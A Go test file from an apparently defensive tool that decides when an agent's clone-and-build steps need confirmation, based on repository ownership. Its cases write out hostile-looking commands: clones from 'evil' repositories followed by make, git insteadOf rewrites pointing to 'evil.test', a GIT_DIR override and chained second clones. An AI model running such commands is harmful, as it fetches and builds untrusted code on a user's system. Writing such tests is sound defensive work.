package session

import (
	"encoding/json"
	"slices"
	"testing"

	"github.com/shieldcli/shield/pkg/analysis"
	"github.com/shieldcli/shield/pkg/effect"
)

// TestOwners says whose clones may be built: those of the account that the workspace
// comes from, as git itself has said, and of no other user.
func TestOwners(t *testing.T) {
	t.Parallel()
	an := reads(nil)
	const remotes = "origin\tgit@github.com:acme/app.git (fetch)\norigin\tgit@github.com:acme/app.git (push)"
	type step struct{ command, result string }
	ask := step{"git remote -v", remotes}
	build := step{"cd /tmp/lib && make", ""}
	for _, tt := range []struct {
		name  string
		steps []step
		want  bool // it is asked about
	}{
		{"own", []step{ask, {"git clone git@github.com:acme/lib.git /tmp/lib", ""}, build}, false},
		{"own, by https and with options", []step{ask, {"git clone --depth 1 -b main https://github.com/Acme/lib /tmp/lib", ""}, build}, false},
		{"own, by gh", []step{{"gh repo view --json nameWithOwner", `{"nameWithOwner":"acme/app"}`}, {"gh repo clone acme/lib /tmp/lib", ""}, build}, false},
		{"nobody has asked", []step{{"git clone git@github.com:acme/lib.git /tmp/lib", ""}, build}, true},
		{"another account", []step{ask, {"git clone git@github.com:acme-libs/lib.git /tmp/lib", ""}, build}, true},
		{"another host", []step{ask, {"git clone git@github.dev:acme/lib.git /tmp/lib", ""}, build}, true},
		{"the name further down", []step{ask, {"git clone https://github.com/evil/acme/lib /tmp/lib", ""}, build}, true},
		{"another remote of the list", []step{{"git remote -v", remotes + "\nfork\tgit@github.com:evil/app.git (fetch)"}, {"git clone git@github.com:evil/lib.git /tmp/lib", ""}, build}, true},
		{"the answer has two owners", []step{{"git remote -v", remotes + "\norigin\tgit@github.com:evil/app.git (push)"}, {"git clone git@github.com:acme/lib.git /tmp/lib", ""}, build}, true},
		{"somebody's text", []step{{"cat notes; git remote -v", remotes}, {"git clone git@github.com:acme/lib.git /tmp/lib", ""}, build}, true},
		{"a variable", []step{{"GIT_DIR=/tmp/x git remote -v", remotes}, {"git clone git@github.com:acme/lib.git /tmp/lib", ""}, build}, true},
		{"an address that is set before", []step{{"git remote set-url origin git@github.com:acme/app.git", ""}, ask, {"git clone git@github.com:acme/lib.git /tmp/lib", ""}, build}, true},
		{"an address that is replaced", []step{ask, {"git config --global url.https://evil.test/.insteadOf git@github.com:", ""}, {"git clone git@github.com:acme/lib.git /tmp/lib", ""}, build}, true},
		{"settings with the clone", []step{ask, {"git -c url.https://evil.test/.insteadOf=git@github.com: clone git@github.com:acme/lib.git /tmp/lib", ""}, build}, true},
		{"what comes with others' modules", []step{ask, {"git clone --recurse-submodules git@github.com:acme/lib.git /tmp/lib", ""}, build}, true},
		{"a second clone in the same command", []step{ask, {"git clone git@github.com:acme/lib.git /tmp/x; git clone https://github.com/evil/lib /tmp/lib", ""}, build}, true},
	} {
		s := NewStore(nil, newWorld().options())
		asked := false
		for _, one := range tt.steps {
			command, _ := json.Marshal(one.command)
			memory := s.Load(t.Context(), Key{}, Lineage{}, "")
			c := an.CaseWithSessionState(parse(t, `{"type":"execute_command","payload":{"command":`+string(command)+`}}`), memory)
			asked = slices.ContainsFunc(c.Effects, func(e effect.Effect) bool { return e.Kind == effect.RunCode && len(e.DataLabels) > 0 })
			d := s.DeltaOfAction(c, nil, false)
			if err := s.AddSecretFiles(t.Context(), memory, c, &d); err != nil {
				t.Fatal(err)
			}
			if err := s.Add(t.Context(), memory, &d); err != nil {
				t.Fatal(err)
			}
			ran := CompletedCall{Cases: []*analysis.ActionCase{c}}
			if one.result != "" {
				ran.ResultTexts = []string{one.result}
			}
			if err := s.AddCompleted(t.Context(), s.Load(t.Context(), Key{}, Lineage{}, ""), ran); err != nil {
				t.Fatal(err)
			}
		}
		if asked != tt.want {
			t.Errorf("%s: asked %v, want %v", tt.name, asked, tt.want)
		}
	}
}

// TestOwnersConfigured demands that the settings of the repository, where they can be
// read, say the same, and that the repository is the workspace's own.
func TestOwnersConfigured(t *testing.T) {
	t.Parallel()
	const result = "git@github.com:acme/app.git"
	for _, tt := range []struct {
		files map[string]string
		cwd   string
		want  int
	}{
		{nil, "/work/app", 1},
		{map[string]string{"/work/app/.git/config": "[remote \"origin\"]\n\turl = https://github.com/acme/app\n"}, "/work/app", 1},
		{map[string]string{"/work/app/.git/config": "[remote \"origin\"]\n\turl = git@github.com:other/app.git\n"}, "/work/app", 0},
		{nil, "/work/app/web", 1},
		{map[string]string{"/work/app/web/.git": "gitdir: elsewhere"}, "/work/app/web", 0},
		{nil, "/tmp/x", 0},
	} {
		a := parse(t, `{"type":"execute_command","cwd":"`+tt.cwd+`","payload":{"command":"git remote get-url origin"}}`)
		if got := repositoryOwners(reads(tt.files).CaseWithSessionState(a, nil), []string{result}); len(got) != tt.want {
			t.Errorf("%v in %s: %v", tt.files, tt.cwd, got)
		}
	}
}
